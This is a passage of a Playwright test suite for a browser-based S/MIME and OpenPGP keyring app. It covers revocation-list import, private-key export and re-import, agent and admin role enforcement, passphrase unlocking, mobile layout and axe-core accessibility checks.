    await page.click("#tab-admin");
    const paste = async (text, trusted = false) => {
      await page.setChecked("#import-trusted", trusted);
      await page.fill("#import-paste", text);
      await page.click("#import-paste-btn");
      await page.waitForFunction(() => document.getElementById("import-msg").textContent !== "");
      await page.waitForSelector("#busy", { state: "hidden" });
      const msg = await page.textContent("#import-msg");
      await page.evaluate(() => (document.getElementById("import-msg").textContent = ""));
      return msg;
    };
    await paste(pki.ca.toString(), true);
    await paste(pki.cert.toString());
    assert.match(await page.textContent("#revocation"), new RegExp(`Not checked: .*JS Test CA.*${url.replaceAll(".", "\\.")}`));
    assert.match(await paste(pki.crl.toString()), /revocation list of .*JS Test CA.*: 1 revoked/);
    assert.match(await page.textContent("#revocation"), /JS Test CA.*: 1 revoked/);
    assert.doesNotMatch(await page.textContent("#revocation"), /Not checked/);
    const row = page.locator("#keys tr").filter({ hasText: "revoked@example.net" });
    assert.equal(await row.locator("td.status-revoked").textContent(), "revoked");
    assert.deepEqual(page.errors, []);
    await page.context().close();
  });

  test("admin: download public and passphrase-protected private keys, delete, drag and drop", async () => {
    const page = await newPage();
    await createKeyring(page);
    await page.click("#tab-admin");
    const row = page.locator("#keys tr", { has: page.locator("td:nth-child(1)", { hasText: /^S\/MIME$/ }) }).filter({ hasText: "alice@example.com" });
    const [pub] = await Promise.all([page.waitForEvent("download"), row.getByRole("button", { name: /Download public/ }).click()]);
    assert.equal(pub.suggestedFilename(), "alice@example.com.crt.pem");
    assert.match(readFileSync(await pub.path(), "utf8"), /^-----BEGIN CERTIFICATE-----/);
    await row.getByRole("button", { name: /Download private/ }).click();
    await page.waitForSelector("#pass-dialog[open]");
    await page.fill("#pass-input", "export-pass");
    const [sec] = await Promise.all([page.waitForEvent("download"), page.click('#pass-dialog button[value="ok"]')]);
    assert.equal(sec.suggestedFilename(), "alice@example.com.p12");
    const p12 = readFileSync(await sec.path());
    assert.ok(p12.length > 500 && p12[0] === 0x30, "a DER PKCS#12");

    // Delete it, then bring it back by dropping the exported file (passphrase prompt).
    page.once("dialog", (d) => d.accept());
    await row.getByRole("button", { name: /Delete/ }).click();
    await page.waitForFunction(() => !/alice@example\.com/.test([...document.querySelectorAll("#keys tr")].filter((tr) => tr.dataset.kind === "smime").map((tr) => tr.textContent).join(" ")));
    await page.waitForSelector("#busy", { state: "hidden" });
    const drop = await page.evaluateHandle((bytes) => {
      const dt = new DataTransfer();
      dt.items.add(new File([new Uint8Array(bytes)], "alice-export.pfx", { type: "application/x-pkcs12" }));
      return dt;
    }, [...p12]);
    await page.evaluate(() => (document.getElementById("import-msg").textContent = ""));
    await page.dispatchEvent("#drop", "drop", { dataTransfer: drop });
    await page.waitForSelector("#pass-dialog[open]");
    await page.fill("#pass-input", "export-pass");
    await page.click('#pass-dialog button[value="ok"]');
    await page.waitForFunction(() => document.getElementById("import-msg").textContent !== "", null, { timeout: 20_000 });
    assert.match(await page.textContent("#import-msg"), /alice-export\.pfx: imported .*alice@example\.com/);
    assert.equal(await row.locator("td:nth-child(6)").textContent(), "yes", "the private key is back");
    assert.deepEqual(page.errors, []);
    await page.context().close();
  });

  test("roles: after unlocking, the agent cannot export, delete, trust or change the policy until the admin unlocks", async () => {
    const page = await newPage();
    await createKeyring(page);
    await page.waitForSelector("#busy", { state: "hidden" });
    await page.reload();
    await page.waitForSelector("body[data-ready=true]");
    await page.fill("#unlock-pass", PASS);
    await page.click("#unlock-form button[type=submit]");
    await page.waitForSelector("#agent:not([hidden])", { timeout: 20_000 });
    await page.click("#tab-admin");
    assert.match(await page.textContent("#role-text"), /^Agent role/);
    const aliceRow = page.locator('#keys tr[data-kind="smime"]').filter({ hasText: "alice@example.com" });
    assert.equal(await aliceRow.getByRole("button", { name: /Download private/ }).isDisabled(), true);
    assert.equal(await aliceRow.getByRole("button", { name: /Delete/ }).isDisabled(), true);
    assert.equal(await page.isDisabled("#import-trusted"), true);
    assert.equal(await page.isDisabled("#p-fallback"), true);
    // The package refuses it too, whatever the page does.
    await page.evaluate(() => (document.getElementById("import-trusted").disabled = false));
    await page.check("#import-trusted");
    await page.fill("#import-paste", readFileSync(join(KEYS, "root-ca.crt.pem"), "utf8"));
    await page.click("#import-paste-btn");
    await page.waitForFunction(() => /not imported/.test(document.getElementById("import-msg").textContent));
    assert.match(await page.textContent("#import-msg"), /\[admin_required\]/);
    // The policy too: it lives in the sealed keyring, and the package keeps it for the admin.
    await page.evaluate(() => {
      for (const c of document.querySelectorAll("#policy-form select, #policy-form input, #policy-form button")) c.disabled = false;
    });
    await page.selectOption("#p-fallback", "send_plain");
    await page.click("#policy-form button[type=submit]");
    await page.waitForFunction(() => /Not saved/.test(document.getElementById("policy-msg").textContent));
    assert.match(await page.textContent("#policy-msg"), /\[admin_required\]/);

    await page.fill("#admin-pass", "a guess");
    await page.click("#admin-unlock-form button[type=submit]");
    await page.waitForFunction(() => document.getElementById("admin-msg").textContent !== "", null, { timeout: 20_000 });
    assert.match(await page.textContent("#admin-msg"), /Wrong admin passphrase/);
    await page.fill("#admin-pass", ADMIN_PASS);
    await page.click("#admin-unlock-form button[type=submit]");
    await page.waitForFunction(() => /^Admin role/.test(document.getElementById("role-text").textContent), null, { timeout: 20_000 });
    assert.equal(await page.isDisabled("#p-fallback"), false);
    page.once("dialog", (d) => d.accept());
    await aliceRow.getByRole("button", { name: /Delete/ }).click();
    await page.waitForFunction(() => document.querySelector('#log tr[data-action="remove"]'));
    // The log says which role did what.
    const roleOf = (action, outcome) =>
      page.locator(`#log tr[data-action="${action}"][data-outcome="${outcome}"] td:last-child`).evaluateAll((tds) => tds.map((td) => td.textContent));
    // The admin changes the policy: saved in the keyring, not in the page's storage.
    await page.selectOption("#p-fallback", "problem_report");
    await page.uncheck('#groups input[data-group="Billing"][data-field="protectHeaders"]');
    await page.click("#policy-form button[type=submit]");
    await page.waitForFunction(() => /Saved in the keyring/.test(document.getElementById("policy-msg").textContent), null, { timeout: 20_000 });
    assert.deepEqual(await roleOf("refused", "error"), ["agent", "agent"]);
    assert.deepEqual(await roleOf("admin_unlock", "error"), ["agent"]);
    assert.deepEqual(await roleOf("admin_unlock", "ok"), ["admin"]);
    assert.deepEqual(await roleOf("remove", "ok"), ["admin"]);
    assert.deepEqual(await roleOf("set_policy", "ok"), ["admin"]);
    await page.click("#admin-lock");
    await page.waitForFunction(() => /^Agent role/.test(document.getElementById("role-text").textContent), null, { timeout: 20_000 });
    await page.waitForSelector("#busy", { state: "hidden" });
    assert.equal(await page.evaluate(() => Object.keys(localStorage).filter((k) => /policy/.test(k)).length), 0);
    await page.reload();
    await page.waitForSelector("body[data-ready=true]");
    await page.fill("#unlock-pass", PASS);
    await page.click("#unlock-form button[type=submit]");
    await page.waitForSelector("#agent:not([hidden])", { timeout: 20_000 });
    await page.click("#tab-admin");
    assert.equal(await page.inputValue("#p-fallback"), "problem_report");
    assert.equal(await page.isChecked('#groups input[data-group="Billing"][data-field="protectHeaders"]'), false);
    assert.equal(await page.isChecked('#groups input[data-group="Security"][data-field="protectHeaders"]'), true);
    assert.deepEqual(page.errors, []);
    await page.context().close();
  });

  test("reload keeps the sealed keyring; the wrong passphrase is refused", async () => {
    const page = await newPage();
    await createKeyring(page);
    await page.click("#tab-admin");
    await page.fill("#import-paste", readFileSync(join(KEYS, "pgp-ed.pub.asc"), "utf8"));
    await page.click("#import-paste-btn");
    await page.waitForFunction(() => /imported/.test(document.getElementById("import-msg").textContent));
    await page.waitForSelector("#busy", { state: "hidden" });
    const before = await page.locator("#keys tr").count();
    // The readiness self-check and the audit log are there.
    assert.match(await page.textContent("#check"), /alice@example\.com/);
    assert.match(await page.textContent("#log"), /import/);
    await page.screenshot({ path: join(ARTIFACTS, "admin-view.png"), fullPage: true });

    await page.reload();
    await page.waitForSelector("body[data-ready=true]");
    await page.waitForSelector("#unlock:not([hidden])");
    await page.fill("#unlock-pass", "not the passphrase");
    await page.click("#unlock-form button[type=submit]");
    await page.waitForFunction(() => document.getElementById("unlock-msg").textContent !== "", null, { timeout: 20_000 });
    assert.match(await page.textContent("#unlock-msg"), /Wrong passphrase/);
    assert.equal(await page.isVisible("#agent"), false);

    await page.fill("#unlock-pass", PASS);
    await page.click("#unlock-form button[type=submit]");
    await page.waitForSelector("#agent:not([hidden])", { timeout: 20_000 });
    await page.click("#tab-admin");
    assert.equal(await page.locator("#keys tr").count(), before);
    assert.match(await page.textContent("#keys"), /pgp-ed@example\.org/);

    // Lock forgets the keys in memory: back to the unlock screen, nothing of the views shown.
    await page.click("#lock");
    await page.waitForSelector("#unlock:not([hidden])");
    assert.equal(await page.isVisible("#admin"), false);
    assert.equal(await page.isVisible("#agent"), false);
    assert.deepEqual(page.errors, []);
    await page.context().close();
  });

  test("phone width: every view fits 360 px without horizontal scrolling", async () => {
    const page = await newPage({ viewport: { width: 360, height: 740 } });
    // The page itself never scrolls sideways (a wide table may scroll inside its own box).
    const fits = async (view) => {
      const { scroll, wide } = await page.evaluate(() => ({
        scroll: document.documentElement.scrollWidth - document.documentElement.clientWidth,
        wide: [...document.querySelectorAll("body *")]
          .filter((e) => e.getBoundingClientRect().right > document.documentElement.clientWidth + 1 && e.checkVisibility() && !e.closest(".table-scroll"))
          .slice(0, 5)
          .map((e) => e.id || e.className || e.tagName),
      }));
      assert.equal(scroll, 0, `${view}: ${scroll}px too wide (${wide.join(", ")})`);
    };
    await fits("setup");
    await page.screenshot({ path: join(ARTIFACTS, "setup-360.png"), fullPage: true });
    await createKeyring(page);
    await page.fill("#c-to", "carol@example.com, nobody@example.net");
    await fits("agent");
    await page.screenshot({ path: join(ARTIFACTS, "agent-360.png"), fullPage: true });
    await page.click("#tab-admin");
    await fits("admin");
    await page.screenshot({ path: join(ARTIFACTS, "admin-360.png"), fullPage: true });
    // Make a key (www/generate.mjs): an OpenPGP key's fingerprint and downloads, then an S/MIME
    // request and the pending list.
    await makeKey(page, { address: "a-rather-long-support-address@example.com" });
    await fits("admin, an OpenPGP key made");
    await makeKey(page, { address: "a-rather-long-support-address@example.com", standard: "smime", algorithm: "p256" });
    await fits("admin, an S/MIME request pending");
    await page.locator("#gen-form").screenshot({ path: join(ARTIFACTS, "admin-make-key-360.png") });
    await page.screenshot({ path: join(ARTIFACTS, "admin-pending-360.png"), fullPage: true });
    await page.click("#lock");
    await page.waitForSelector("#unlock:not([hidden])");
    await fits("unlock");
    await page.screenshot({ path: join(ARTIFACTS, "unlock-360.png"), fullPage: true });
    await page.context().close();
  });

  test("accessibility: axe-core finds no WCAG 2 A/AA or best-practice violations; controls are keyboard reachable", async () => {
    // axe-core is injected as an inline script, which the page's CSP rightly refuses.
    const page = await newPage({ bypassCSP: true });
    const axe = readFileSync(join(dirname(fileURLToPath(import.meta.resolve("axe-core"))), "axe.min.js"), "utf8");
    const audit = async (name) => {
      await page.addScriptTag({ content: axe });
      const result = await page.evaluate(() => window.axe.run(document, { runOnly: { type: "tag", values: ["wcag2a", "wcag2aa", "best-practice"] } }));
      const found = result.violations.map((v) => `${v.id}: ${v.nodes.map((n) => n.target.join(" ")).join(", ")}`);
      assert.deepEqual(found, [], `${name}: ${found.join("\n")}`);
    };
    await audit("setup");
    await page.screenshot({ path: join(ARTIFACTS, "setup-view.png"), fullPage: true });
    await createKeyring(page);
    await audit("agent");
    // The details dialog, open over the agent view.
    await page.locator('#articles .badge[data-kind="signature"]').first().click();
    await page.locator("#detail-dialog").waitFor({ state: "visible" });
    await audit("details dialog");
    await page.keyboard.press("Escape");
    // Keyboard: Tab reaches the composer's Send button.
    await page.focus("#c-body");
    let reached = false;
    for (let i = 0; i < 12 && !reached; i++) {
      await page.keyboard.press("Tab");
      reached = await page.evaluate(() => document.activeElement?.id === "c-send");
    }
    assert.ok(reached, "Send is reachable with Tab");
    await page.click("#tab-admin");
    await audit("admin");
    // Make a key: the form, an OpenPGP key's result, an S/MIME request and the pending list.
    await makeKey(page, { address: "support@example.com" });
    await audit("admin, an OpenPGP key made");
    await makeKey(page, { address: "support@example.com", standard: "smime", algorithm: "p256" });
    await audit("admin, an S/MIME request pending");
    await page.locator("#gen-form").evaluate((f) => f.closest("section").scrollIntoView());
    await page.screenshot({ path: join(ARTIFACTS, "admin-make-key.png") });
    // The passphrase dialog (exporting a private key), then the unlock view.
    const row = page.locator("#keys tr", { has: page.locator("td:nth-child(1)", { hasText: /^S\/MIME$/ }) }).filter({ hasText: "alice@example.com" });
    await row.getByRole("button", { name: /Download private/ }).click();
    await page.waitForSelector("#pass-dialog[open]");
    await audit("passphrase dialog");
    await page.keyboard.press("Escape");
    await page.click("#lock");
    await page.waitForSelector("#unlock:not([hidden])");
    await audit("unlock");
    await page.screenshot({ path: join(ARTIFACTS, "unlock-view.png"), fullPage: true });
    await page.context().close();
  });
});
